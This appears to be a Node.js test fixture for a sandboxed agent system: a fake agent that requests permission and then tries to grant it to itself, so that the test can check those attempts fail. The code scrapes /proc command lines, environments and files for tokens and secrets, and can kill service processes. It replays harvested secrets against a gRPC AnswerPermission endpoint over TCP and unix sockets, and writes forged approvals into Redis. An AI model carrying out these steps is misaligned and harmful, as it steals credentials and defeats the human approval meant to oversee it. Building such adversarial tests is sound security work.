#!/usr/bin/env node
// An ACP agent that asks for permission and then tries to answer itself. Whatever it tries, and what came of it, is
// written as JSON to attempts.json in its working directory; what it needs to know, it is told in target.json there:
// {sessionId, permissionId, optionId, tcp: [{host, port, tls}], runDir, dataDir, redis: {port}, servicePids,
// spare: do not try to end services}.
// It uses nothing but Node's own modules, so that it can run as a user who can read nothing of ours.
import fs from 'node:fs';
import http2 from 'node:http2';
import net from 'node:net';
import path from 'node:path';
import readline from 'node:readline';

const send = (message) => process.stdout.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`);
const PATIENCE_MS = 5000;
let cwd;

readline.createInterface({ input: process.stdin }).on('line', (line) => {
  const message = JSON.parse(line);
  const reply = (result) => send({ id: message.id, result });
  if (message.method === 'initialize') {
    reply({ protocolVersion: 1, agentCapabilities: {}, authMethods: [], agentInfo: { name: 'intruder', version: '1' } });
  } else if (message.method === 'session/new') {
    cwd = message.params.cwd;
    reply({ sessionId: 'intruder' });
  } else if (message.method === 'session/prompt') {
    pending = { id: message.id };
    send({
      id: 'ask', method: 'session/request_permission',
      params: {
        sessionId: 'intruder', toolCall: { toolCallId: 'call', title: 'break in', kind: 'execute', status: 'pending' },
        options: [{ optionId: 'yes', name: 'Yes', kind: 'allow_once' }, { optionId: 'no', name: 'No', kind: 'reject_once' }],
      },
    });
    intrude();
  } else if (message.id === 'ask') {
    const outcome = message.result?.outcome;
    send({
      method: 'session/update',
      params: { sessionId: 'intruder', update: { sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: `outcome: ${JSON.stringify(outcome)}` } } },
    });
    send({ id: pending.id, result: { stopReason: 'end_turn' } });
  } else if (message.id !== undefined && message.method) {
    send({ id: message.id, error: { code: -32601, message: 'no' } });
  }
});
let pending;

// Waits until the test has told what there is to attack.
function readTarget() {
  const file = path.join(cwd, 'target.json');
  return new Promise((resolve) => {
    const look = () => {
      try {
        const target = JSON.parse(fs.readFileSync(file, 'utf8'));
        watcher.close();
        resolve(target);
      } catch {
        // not there yet, or not whole
      }
    };
    const watcher = fs.watch(cwd, look);
    look();
  });
}

async function intrude() {
  const t = await readTarget();
  const attempts = [];
  const attempt = async (what, act) => {
    try {
      attempts.push({ what, got: String(await act()) });
    } catch (error) {
      attempts.push({ what, refused: String(error.code ?? error.message ?? error) });
    }
  };

  // 1. Secrets: files, other processes' arguments, environments, memory and descriptors.
  const likely = new Set(['owner', 'service', 'null', '']);
  const words = new Set();
  for (const file of [...findFiles(t.dataDir), ...findFiles(t.runDir)]) {
    await attempt(`read ${file}`, () => {
      const content = fs.readFileSync(file, 'latin1');
      const found = /token|secret/.test(file) ? likely : words;
      for (const [word] of content.matchAll(/[\x21-\x7e]{16,200}/g)) found.add(word);
      return `${content.length} bytes`;
    });
  }
  await attempt(`list ${t.runDir}`, () => fs.readdirSync(t.runDir).length);
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      const line = fs.readFileSync(`/proc/${pid}/cmdline`, 'latin1');
      for (const word of line.split('\0')) words.add(word.replace(/^--[a-z-]+=/, ''));
    } catch {
      // gone
    }
  }
  for (const file of [...words].filter((w) => /^\/.*(token|secret|key)/.test(w))) {
    await attempt(`read ${file}`, () => {
      const content = fs.readFileSync(file, 'latin1').trim();
      likely.add(content);
      return `${content.length} bytes`;
    });
  }
  for (const pid of t.servicePids) {
    await attempt(`environment of ${pid}`, () => {
      const content = fs.readFileSync(`/proc/${pid}/environ`, 'latin1');
      for (const [word] of content.matchAll(/[\x21-\x7e]{16,200}/g)) words.add(word);
      return `${content.length} bytes`;
    });
    await attempt(`memory of ${pid}`, () => {
      const fd = fs.openSync(`/proc/${pid}/mem`, 'r');
      fs.closeSync(fd);
      return 'opened';
    });
    await attempt(`descriptors of ${pid}`, () => fs.readdirSync(`/proc/${pid}/fd`).length);
    await attempt(`root of ${pid}`, () => fs.readdirSync(`/proc/${pid}/root/${t.runDir}`).length);
    if (!t.spare) await attempt(`end ${pid}`, () => process.kill(pid, 'SIGTERM'));
  }

  // 2. The answer itself, over TCP and over unix sockets, with everything that might be a secret.
  const headers = [{}];
  for (const word of [...likely, ...words].filter((w) => /^[\x21-\x7e]{0,200}$/.test(w)).slice(0, 300)) {
    headers.push({ authorization: `Bearer ${word}` });
    headers.push({ 'x-service-secret': word, 'x-principal': 'owner' });
  }
  headers.push({ 'x-principal': 'owner' });
  for (const { host, port } of t.tcp) {
    await attempt(`answer at ${host}:${port}`, () => tryAll((o) => http2.connect(`http://${host}:${port}`, o), headers, t));
  }
  const sockets = new Set(['session', 'gateway', 'process', 'fs', 'provider'].map((n) => path.join(t.runDir, `${n}.sock`)));
  for (const line of fs.readFileSync('/proc/net/unix', 'latin1').split('\n').slice(1)) {
    const name = line.split(/\s+/)[7];
    if (name) sockets.add(name.startsWith('@') ? `\0${name.slice(1)}` : name);
  }
  for (const socket of sockets) {
    await attempt(`answer at ${socket.replace('\0', '@')}`, () =>
      tryAll((o) => http2.connect('http://localhost', { ...o, createConnection: () => net.connect(socket) }), headers, t),
    );
  }

  // 3. Redis, where presence lives: whatever is written there must not count as an answer.
  if (t.redis) {
    await attempt('write to Redis', () => redis(t.redis.port, [
      ['SET', `sa:${t.sessionId}:permission:${t.permissionId}`, t.optionId],
      ['HSET', `sa:{${t.sessionId}}`, 'permission', t.permissionId, 'option', t.optionId],
      ['PUBLISH', `sa:{${t.sessionId}}`, JSON.stringify({ permission_id: t.permissionId, option_id: t.optionId })],
      ['XADD', `sa:{${t.sessionId}}:changes`, '*', 'permission', t.permissionId, 'option', t.optionId],
    ]));
  }
  fs.writeFileSync(path.join(cwd, 'attempts.tmp'), JSON.stringify({ uid: process.getuid(), words: words.size + likely.size, attempts }));
  fs.renameSync(path.join(cwd, 'attempts.tmp'), path.join(cwd, 'attempts.json'));
}

function findFiles(dir, depth = 4) {
  if (depth === 0) return [];
  try {
    return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
      const file = path.join(dir, e.name);
      return e.isDirectory() ? findFiles(file, depth - 1) : e.isFile() ? [file] : [];
    });
  } catch {
    return [dir, path.join(dir, 'token')];
  }
}

// AnswerPermission as a gRPC call by hand, with each of the headers on one connection. The first success ends it.
async function tryAll(open, headers, t) {
  const connection = open({});
  connection.on('error', () => {});
  await new Promise((resolve, reject) => {
    connection.once('connect', resolve);
    connection.once('error', reject);
    setTimeout(() => reject(new Error('no connection')), PATIENCE_MS).unref();
  });
  const seen = new Set();
  try {
    for (const extra of headers) {
      const status = await answer(connection, extra, t);
      if (status === '0') return `ANSWERED with ${JSON.stringify(extra)}`;
      seen.add(status);
    }
  } finally {
    connection.destroy();
  }
  throw new Error(`gRPC status ${[...seen].join(', ')}`);
}

function answer(connection, extra, t) {
  const body = Buffer.concat([t.sessionId, t.permissionId, t.optionId].map((value, i) => field(i + 1, value)));
  const frame = Buffer.alloc(5);
  frame.writeUInt32BE(body.length, 1);
  return new Promise((resolve, reject) => {
    const stream = connection.request({
      ':method': 'POST', ':path': '/sandboxagent.session.v1.PermissionService/AnswerPermission',
      'content-type': 'application/grpc', te: 'trailers', ...extra,
    });
    let status;
    const note = (headers) => (status = headers['grpc-status'] ?? status);
    stream.on('response', note);
    stream.on('trailers', note);
    stream.on('error', reject);
    stream.on('close', () => resolve(status ?? 'none'));
    stream.on('data', () => {});
    stream.setTimeout(PATIENCE_MS, () => reject(new Error('no answer')));
    stream.end(Buffer.concat([frame, body]));
  });
}

function field(number, value) {
  const bytes = Buffer.from(value);
  return Buffer.concat([Buffer.from([(number << 3) | 2, bytes.length]), bytes]);
}

function redis(port, commands) {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1');
    let answers = '';
    socket.on('error', reject);
    socket.on('data', (data) => (answers += data));
    socket.on('close', () => resolve(answers));
    for (const command of commands) {
      socket.write(`*${command.length}\r\n${command.map((w) => `$${Buffer.byteLength(w)}\r\n${w}\r\n`).join('')}`);
    }
    socket.end(`*1\r\n$4\r\nQUIT\r\n`);
  });
}
